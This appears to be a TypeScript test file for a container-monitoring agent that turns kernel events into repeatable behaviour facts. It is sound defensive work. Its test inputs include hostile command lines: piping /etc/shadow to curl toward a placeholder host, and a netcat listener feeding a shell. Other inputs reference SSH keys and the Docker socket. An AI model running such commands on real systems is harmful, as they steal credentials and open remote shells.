import { expect, test } from 'vitest';
import { decodeFlows, decodeRecords } from '../../../agent/events/decode.ts';
import { LAYOUT } from '../../../agent/events/layout.ts';
import { commandShape, commandWords } from '../../../agent/features/command.ts';
import { factOf, factOfEnds, isOutside, type PeerOf } from '../../../agent/features/facts.ts';
import { generalisePath } from '../../../agent/features/generalise.ts';
import {
  type ActionFields,
  actionRecord,
  deniedRecord,
  execRecord,
  exitRecord,
  flowEntry,
  flowRecord,
  novelRecord,
  openRecord,
} from '../../builders/records.ts';

const nobody: PeerOf = () => ({ workload: null, name: null });
const fact = (record: Buffer, peerOf: PeerOf = nobody) => {
  const [event] = decodeRecords(record).events;
  return event === undefined ? undefined : factOf(event, peerOf);
};

test.each([
  ['/proc/123/environ', '/proc/*/environ'],
  ['/proc/123/task/124/status', '/proc/*/task/*/status'],
  [
    '/run/secrets/kubernetes.io/serviceaccount/..2024_01_31_12_00_00.123456789/token',
    '/run/secrets/kubernetes.io/serviceaccount/..*/token',
  ],
  ['/var/lib/x/0123456789abcdef/y', '/var/lib/x/*/y'],
  ['/data/1b2c3d4e-0000-4aaa-8bbb-123456789abc.json', '/data/*.json'],
  ['/tmp/tmp.aB3dE5fG7h', '/tmp/tmp.*'],
  ['/var/spool/job-20240131.log', '/var/spool/job-*.log'],
  [
    '/var/log/pods/shop_web-7f9c6d5b8-x2k4q_1b2c3d4e-0000-4aaa-8bbb-123456789abc/web',
    '/var/log/pods/shop_web-*-*_*/web',
  ],
  ['/var/log/pods/shop_report-29541200-srvqz_0123456789abcdef/app', '/var/log/pods/shop_report-*-*_*/app'],
  ['/var/log/containers/shipper-qwrtz_logs.log', '/var/log/containers/shipper-*_logs.log'],
  ['/mnt/logs/shop_shipper-7kdwv_x', '/mnt/logs/shop_shipper-*_x'],
  ['/srv/my-https/form-cvs', '/srv/my-https/form-cvs'],
  ['/usr/bin/python3.11', '/usr/bin/python3.11'],
  ['/usr/lib/x86_64-linux-gnu/feedface', '/usr/lib/x86_64-linux-gnu/feedface'],
])('folds what differs between runs: %s', (path, expected) => {
  expect(generalisePath(path)).toBe(expected);
});

test('bounds the length of a value', () => {
  expect(generalisePath(`/${'x'.repeat(5000)}`)).toBe(`/${'x'.repeat(511)}…(5001)`);
});

test.each([
  ['cat /etc/shadow | curl -d @- x', ['cat', 'curl']],
  ['if true; then FOO=1 /usr/bin/id; fi', ['true', '/usr/bin/id']],
  ['df -h && df -i', ['df']],
  ['while :; do "nc" -l 80 2>&1 | sh; done\'', ['nc', 'sh']],
  ['diff <(sort a) 2> /dev/null > x', ['diff', 'sort']],
  ['echo $(whoami) `id`', ['echo', 'whoami', 'id']],
  ['', []],
])('finds the commands of a script: %s', (script, words) => {
  expect(commandWords(script)).toEqual(words);
});

test('the shape of a command line names what an interpreter runs, not its arguments', () => {
  expect(commandShape('dash', ['sh', '-c', 'df -h /'])).toBe('-c df');
  expect(commandShape('bash', ['bash', '-lc', 'id'])).toBe('-lc id');
  expect(commandShape('bash', ['bash', '/opt/run-123.sh', 'secret'])).toBe('/opt/run-*.sh');
  expect(commandShape('python3.11', ['python3', '-c', 'import os'])).toBe('-c …');
  expect(commandShape('python3.11', ['python3', '/app/job.py', '--password=x'])).toBe('/app/job.py');
  expect(commandShape('busybox', ['sh', '-c', 'wget x'])).toBe('sh -c wget');
  expect(commandShape('busybox', ['busybox', 'nc', '1.2.3.4'])).toBe('nc');
  expect(commandShape('curl', ['curl', '-H', 'token'])).toBe('');
});

test('what enters a container from outside has one starter, whoever the kernel names', () => {
  const starter = (fields: { pid?: number; innerPid?: number; parentExe: string }): string | undefined =>
    fact(execRecord({ path: '/app/run', ...fields }))?.value;
  for (const parentExe of ['containerd-shim-runc-v2', 'crun', 'python3.11', ''])
    expect(starter({ pid: 900, innerPid: 1, parentExe })).toBe('runtime > /app/run');
  expect(starter({ pid: 900, innerPid: 7, parentExe: 'runc' })).toBe('runtime > /app/run');
  expect(starter({ pid: 900, innerPid: 7, parentExe: 'python3.11' })).toBe('python3.11 > /app/run');
  expect(starter({ pid: 1, innerPid: 1, parentExe: 'kernel' })).toBe('kernel > /app/run');
});

test('an event becomes a fact that comes back when the same is done again', () => {
  expect(fact(execRecord({ path: '/usr/bin/dash', args: ['sh', '-c', 'df'], parentExe: 'node' }))).toEqual({
    kind: 'exec',
    value: 'node > /usr/bin/dash -c df',
  });
  expect(fact(openRecord({ path: '/etc/shadow', exe: 'cat', openFlags: 1 }))).toEqual({
    kind: 'file',
    value: 'cat w /etc/shadow',
  });
  expect(fact(flowRecord({ direction: 'accept', peer: '10.0.0.1', port: 80 }))).toEqual({
    kind: 'accept',
    value: '80',
  });
  expect(fact(flowRecord({ direction: 'connect', peer: '10.0.0.1', port: 40_000 }))).toEqual({
    kind: 'connect',
    value: '10.0.0.1:*',
  });
  const named: PeerOf = (address) => ({
    workload: address === '10.0.0.1' ? 'shop/Deployment/db' : null,
    name: address === '203.0.113.9' ? 'd1a2b3c4e5.cdn.example.com' : null,
  });
  expect(fact(flowRecord({ direction: 'connect', peer: '10.0.0.1', port: 5432 }), named)).toEqual({
    kind: 'connect',
    value: 'shop/Deployment/db:5432',
  });
  expect([fact(exitRecord({})), fact(deniedRecord({ what: 'exec' }))]).toEqual([null, null]);
});

test('an entry of the flow map gives the same fact as its record', () => {
  const fields = { direction: 'connect', peer: '10.0.0.1', port: 5432 } as const;
  const [flow] = decodeFlows(flowEntry(fields)).flows;
  if (flow === undefined) throw new Error('not decoded');
  expect(factOfEnds(flow, nobody)).toEqual(fact(flowRecord(fields)));
});

test.each<[ActionFields, string | null]>([
  [{ action: 'SETNS', exe: 'nsenter', name: 'net' }, 'nsenter setns net'],
  [{ action: 'SETNS', exe: 'nsenter', args: [4n, 0x2002_0000n] }, 'nsenter setns mnt+pid'],
  [{ action: 'SETNS', exe: 'my memfd x', name: 'net' }, 'my_memfd_x setns net'],
  [{ action: 'CHMOD', exe: '', args: [0o4755n], path: '/opt/tool' }, '? chmod set-id'],
  [{ action: 'UNSHARE', exe: 'bwrap', args: [0x5000_0000n] }, 'bwrap unshare user+net'],
  [{ action: 'SET_ID', exe: 'nginx', args: [0n, 33n | (33n << 32n)] }, 'nginx set-id to 33'],
  [{ action: 'SET_ID', exe: 'sh', args: [0n], result: -1n }, 'sh set-id refused'],
  [{ action: 'RAW_SOCKET', exe: 'ping', args: [2n, 3n, 1n] }, 'ping raw-socket ip'],
  [{ action: 'RAW_SOCKET', exe: 'x', args: [17n, 3n, 0n] }, 'x raw-socket packet'],
  [{ action: 'MOUNT', exe: 'mount', flags: 12, name: 'whatever', path: '/x/1' }, 'mount mount'],
  [{ action: 'URING_OP', exe: 'db', args: [22n] }, 'db uring-op 22'],
  [{ action: 'OPEN_FAILED', exe: 'cat', path: '/root/.ssh/id_rsa', result: -2n }, 'cat open-failed id_rsa'],
  [{ action: 'OPEN_FAILED', exe: 'find', path: '/srv/a/b', result: -13n }, 'find open-failed refused'],
  [{ action: 'SOCKET_USE', exe: 'curl', path: '/run/docker.sock' }, 'curl socket-use /run/docker.sock'],
  [{ action: 'MEMFD', exe: 'app', name: 'memfd:a8f3' }, 'app memfd'],
  [
    { action: 'RENAME', exe: 'vipw', name: '/etc/shadow.edit', path: '/etc/shadow' },
    'vipw rename shadow.edit shadow',
  ],
  [{ action: 'CHMOD', exe: 'cp', args: [0o755n], path: '/opt/tool' }, 'cp chmod executable'],
  [{ action: 'CHMOD', exe: 'cp', args: [0o4755n], path: '/opt/tool' }, 'cp chmod set-id'],
  [{ action: 'KERNEL_SOCKET', exe: 'iptables', args: [16n, 3n, 12n] }, 'iptables kernel-socket 16 12'],
  [{ action: 'OOM_KILL', exe: 'app' }, null],
])('an action becomes what comes back when it is done again: %#', (fields, value) => {
  expect(fact(actionRecord(fields))).toEqual(value === null ? null : { kind: 'action', value });
});

test.each([
  [
    { what: 'FOLDER_READ', path: '/etc/nginx' },
    { kind: 'folder', value: 'r /etc/nginx' },
  ],
  [
    { what: 'FOLDER_READ', path: '/proc/812/fd' },
    { kind: 'folder', value: 'r /proc/*/fd' },
  ],
  [
    { what: 'FOLDER_WRITE', path: '/tmp/job.aB3dE5fG7h' },
    { kind: 'folder', value: 'w /tmp/job.*' },
  ],
  [
    { what: 'FOLDER_READ', path: '' },
    { kind: 'folder', value: 'r /' },
  ],
  [
    { what: 'LIBRARY', path: '/usr/lib/libssl.so.3', flags: LAYOUT.EXEC_DELETED },
    { kind: 'library', value: '/usr/lib/libssl.so.3 (deleted)' },
  ],
  [
    { what: 'CAPABILITY', value: 12 },
    { kind: 'capability', value: 'CAP_NET_ADMIN' },
  ],
  [
    { what: 'CAPABILITY', value: 40 },
    { kind: 'capability', value: 'CAP_CHECKPOINT_RESTORE' },
  ],
  [
    { what: 'CAPABILITY', value: 63 },
    { kind: 'capability', value: 'CAP_63' },
  ],
  [
    { what: 'LISTEN', protocol: 6, port: 80 },
    { kind: 'listen', value: 'tcp:80' },
  ],
  [
    { what: 'LISTEN', protocol: 17, port: 45_000 },
    { kind: 'listen', value: 'udp:*' },
  ],
])('the fact of a novelty is what was done, without what differs between runs: %o', (fields, expected) => {
  expect(fact(novelRecord(fields))).toEqual(expected);
});

test.each([
  ['store.example.net', '203.0.113.1', true],
  ['store.example.net', null, true],
  ['svc.example.net', null, true],
  ['ledger.bank.svc', null, false],
  ['LEDGER.bank.svc.', null, false],
  ['*.bank.svc.corp.example', null, false],
  ['10-0-0-1.bank.pod.cluster.local', null, false],
  ['ledger', null, false],
  ['store.example.net', '172.20.1.1', false],
  ['store.example.net', '172.32.1.1', true],
  ['store.example.net', 'fd00::7', false],
  ['store.example.net', '2001:db8::7', true],
  ['store.example.net', '::ffff:10.0.0.7', false],
])('whether %s at %s is outside the cluster', (name, address, outside) => {
  expect(isOutside(address, name)).toBe(outside);
});
